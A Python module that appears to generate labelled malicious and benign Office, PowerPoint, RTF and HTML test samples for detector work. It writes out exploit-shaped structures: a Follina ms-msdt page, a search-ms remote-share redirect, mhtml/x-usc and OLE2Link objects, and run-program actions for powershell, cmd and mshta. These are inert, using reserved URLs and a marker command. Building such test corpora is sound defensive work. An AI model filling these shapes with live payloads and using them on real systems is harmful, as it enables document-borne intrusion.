"""PowerPoint carrier, Office exploit-shape and Word 6/95 templates, malicious-looking and benign.

Exploit templates carry the static markers public write-ups describe (the handler URL, the
relationship shape, the OLE class), never a working exploit: URLs are under reserved names,
commands print a marker, RTF objects hold placeholder bytes.
"""

from __future__ import annotations

import random
from xml.sax.saxutils import escape

from maldoc.samples import cfb, oledoc, ooxml, ovba, powerpoint, rtf, text, vbagen, word6
from maldoc.samples.registry import template

INERT_CMD = "powershell.exe -nop -w hidden -c Write-Output maldoc-inert"


def _host(rng: random.Random) -> str:
    return text.inert_url(rng).split("://", 1)[-1].split("/", 1)[0]


# --- PowerPoint ----------------------------------------------------------------------------------

@template("pptm_macro", "malicious", "pptm", ("vba", "vba_autoexec"), note=".pptm with an inert auto-run macro")
def pptm_macro(rng: random.Random) -> tuple[str, bytes]:
    _entry, code, _style = vbagen.dropper(rng, host="word")
    code = code.replace("Document_Open", "Auto_Open").replace("AutoOpen", "Auto_Open")
    project = oledoc.vba_project_bin([ovba.Module("Module1", code)], oledoc.project_id(rng.randbytes(16)))
    kind = rng.choice(("pptm", "ppsm"))
    return text.stem(rng), powerpoint.pptx(kind, [[(escape(text.lure(rng)), "", "", "")]], vba_project=project)


@template("ppsx_program_action", "malicious", "ppsx", ("ppt_program_action", "ppt_hover_action"),
          note=".ppsx whose shape runs a program on mouse-over (ppaction://program)")
def ppsx_program_action(rng: random.Random) -> tuple[str, bytes]:
    target = rng.choice(("file:///C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe",
                         "file:///C:/Windows/System32/cmd.exe", "file:///C:/Windows/System32/mshta.exe"))
    shapes = [(escape(text.lure(rng)), "hlinkMouseOver", "ppaction://program", target)]
    if rng.random() < 0.5:
        shapes.append(("Open", "hlinkClick", "", text.inert_url(rng, ext=rng.choice((".hta", ".js", ".exe")))))
    return text.stem(rng), powerpoint.pptx("ppsx", [shapes])


@template("pptx_links", "benign", "pptx", note="presentation with ordinary web hyperlinks and slide jumps")
def pptx_links(rng: random.Random) -> tuple[str, bytes]:
    slides = [[(escape(text.lure(rng)), "hlinkClick", "", text.inert_url(rng, bad=False)),
               ("Next", "hlinkClick", "ppaction://hlinkshowjump?jump=nextslide", "")]
              for _ in range(rng.randint(1, 3))]
    return text.stem(rng), powerpoint.pptx("pptx", slides)


@template("ppt97_program_object", "malicious", "pps", ("ppt_program_action", "ppt_embedded_ole"),
          note="PowerPoint 97 show: a run-program action and a compressed embedded OLE document")
def ppt97_program_object(rng: random.Random) -> tuple[str, bytes]:
    inner = oledoc.doc(text.lure(rng), None, oledoc.project_id(rng.randbytes(16)))
    records = [powerpoint.action(powerpoint.ACTION_PROGRAM, INERT_CMD, hover=rng.random() < 0.5),
               powerpoint.ole_object(inner, compressed=rng.random() < 0.7)]
    return text.stem(rng), powerpoint.ppt(*records, text=text.lure(rng))


@template("ppt97_plain", "benign", "ppt", note="PowerPoint 97 presentation with a slide-jump action")
def ppt97_plain(rng: random.Random) -> tuple[str, bytes]:
    return text.stem(rng), powerpoint.ppt(powerpoint.action(3, ""), text=text.lure(rng))


# --- exploit shapes ------------------------------------------------------------------------------

@template("html_follina", "malicious", "html", ("msdt_handler",),
          note="the page a Follina document loads: script to ms-msdt:/id PCWDiagnostic (CVE-2022-30190)")
def html_follina(rng: random.Random) -> tuple[str, bytes]:
    pad = "".join(f"<!-- {text.words(rng, 12)} -->\n" for _ in range(60))  # the exploit needs > 4 KiB
    page = (f"<!doctype html><html><head><title>{text.lure(rng)}</title></head><body>{pad}<script>"
            "window.location.href = \"ms-msdt:/id PCWDiagnostic /skip force /param \\\"IT_RebrowseForFile=? "
            "IT_LaunchMethod=ContextMenu IT_BrowseForFile=/../../$(Write-Output maldoc-inert)/.exe\\\"\";"
            "</script></body></html>")
    return text.stem(rng), page.encode()


@template("html_search_ms", "malicious", "html", ("search_ms_handler",),
          note="page opening a remote Windows Search window (search-ms: crumb=location)")
def html_search_ms(rng: random.Random) -> tuple[str, bytes]:
    host = _host(rng)
    page = (f"<!doctype html><html><body><p>{text.lure(rng)}</p><script>window.location.href = "
            f"'search-ms:query=invoice&crumb=location:\\\\\\\\{host}@80\\\\share&displayname=Downloads';"
            "</script></body></html>")
    return text.stem(rng), page.encode()


@template("docx_follina_field", "malicious", "docx", ("msdt_handler", "urls"),
          note="document whose field calls ms-msdt: (Follina variant without the OLE link)")
def docx_follina_field(rng: random.Random) -> tuple[str, bytes]:
    field = (f'HYPERLINK "ms-msdt:/id PCWDiagnostic /skip force /param IT_BrowseForFile={text.inert_url(rng)}"')
    return text.stem(rng), ooxml.word(ooxml.WordDoc(paragraphs=[text.lure(rng)], fields=[field],
                                                    links=[("details", text.inert_url(rng))]))


@template("docx_mhtml_xusc", "malicious", "docx", ("mhtml_xusc", "ole_link_external"),
          note="external OLE relationship mhtml:...!x-usc:... (CVE-2021-40444 / CVE-2023-36884 shape)")
def docx_mhtml_xusc(rng: random.Random) -> tuple[str, bytes]:
    a, b = text.inert_url(rng, ext=".html"), text.inert_url(rng, ext=".html")
    return text.stem(rng), ooxml.word(ooxml.WordDoc(paragraphs=[text.lure(rng)], ole_links=[f"mhtml:{a}!x-usc:{b}"]))


@template("docx_altchunk_rtf", "malicious", "docx", ("altchunk_rtf_link", "urls"),
          note="aFChunk-imported RTF holding an OLE2Link object (CVE-2023-36884 afchunk.rtf shape)")
def docx_altchunk_rtf(rng: random.Random) -> tuple[str, bytes]:
    url = text.inert_url(rng, ext=rng.choice((".htm", ".asp", ".url")))
    obj = rtf.object_group(rtf.ole1("OLE2Link", rtf.ole2link_native(url)), "OLE2Link", rng, link=True, update=True)
    chunk = rtf.document([text.lure(rng)], [obj])
    data = ooxml.word(ooxml.WordDoc(paragraphs=[text.lure(rng)]))
    return text.stem(rng), _with_altchunk(data, chunk)


def _with_altchunk(docx: bytes, chunk: bytes) -> bytes:
    """Add word/afchunk.rtf and its aFChunk relationship to a generated document."""
    import io
    import zipfile

    members: list[tuple[str, bytes]] = []
    with zipfile.ZipFile(io.BytesIO(docx)) as zf:
        for name in zf.namelist():
            data = zf.read(name)
            if name == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdAf1" Type="http://schemas.'
                                    b'openxmlformats.org/officeDocument/2006/relationships/aFChunk" '
                                    b'Target="afchunk.rtf"/></Relationships>')
            elif name == "word/document.xml":
                data = data.replace(b"<w:sectPr/>", b'<w:altChunk r:id="rIdAf1"/><w:sectPr/>')
            elif name == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Default Extension="rtf" ContentType="application/rtf"/></Types>')
            members.append((name, data))
    members.append(("word/afchunk.rtf", chunk))
    return ooxml.zip_bytes(members)


@template("rtf_static_dib", "malicious", "rtf", ("static_ole_class", "rtf_object"),
          note="RTF \\object of class StaticDib with a presentation stream (CVE-2025-21298 PoC shape)")
def rtf_static_dib(rng: random.Random) -> tuple[str, bytes]:
    cls = rng.choice(("StaticDib", "StaticMetafile"))
    clsid = "{00000316-0000-0000-C000-000000000046}" if cls == "StaticDib" else \
        "{00000315-0000-0000-C000-000000000046}"
    storage = cfb.write({"\x02OlePres000": b"\x00" * 64, "CONTENTS": b"\x00" * 32}, root_clsid=clsid)
    obj = rtf.object_group(rtf.ole1(cls, storage), cls, rng, update=True)
    return text.stem(rng), rtf.document([text.lure(rng)], [obj])


# --- Word 6/95 -----------------------------------------------------------------------------------

@template("word6_macro_template", "malicious", "doc", ("word6_macros", "word6_auto_macro"),
          note="Word 6.0 template named .doc whose macro table names AutoOpen/FileSaveAs (Concept shape)")
def word6_macro_template(rng: random.Random) -> tuple[str, bytes]:
    names = [*rng.sample(["AutoOpen", "FileSaveAs", "AutoClose", "ToolsMacro"], 2), text.ident(rng, 5, 8)]
    return text.stem(rng), word6.document(text.lure(rng), names, template=True, nfib=rng.choice((101, 104)))


@template("word6_plain", "benign", "doc", note="Word 6.0/95 document without macros")
def word6_plain(rng: random.Random) -> tuple[str, bytes]:
    return text.stem(rng), word6.document("\n".join(text.paragraphs(rng, 3)), nfib=rng.choice((101, 104)))
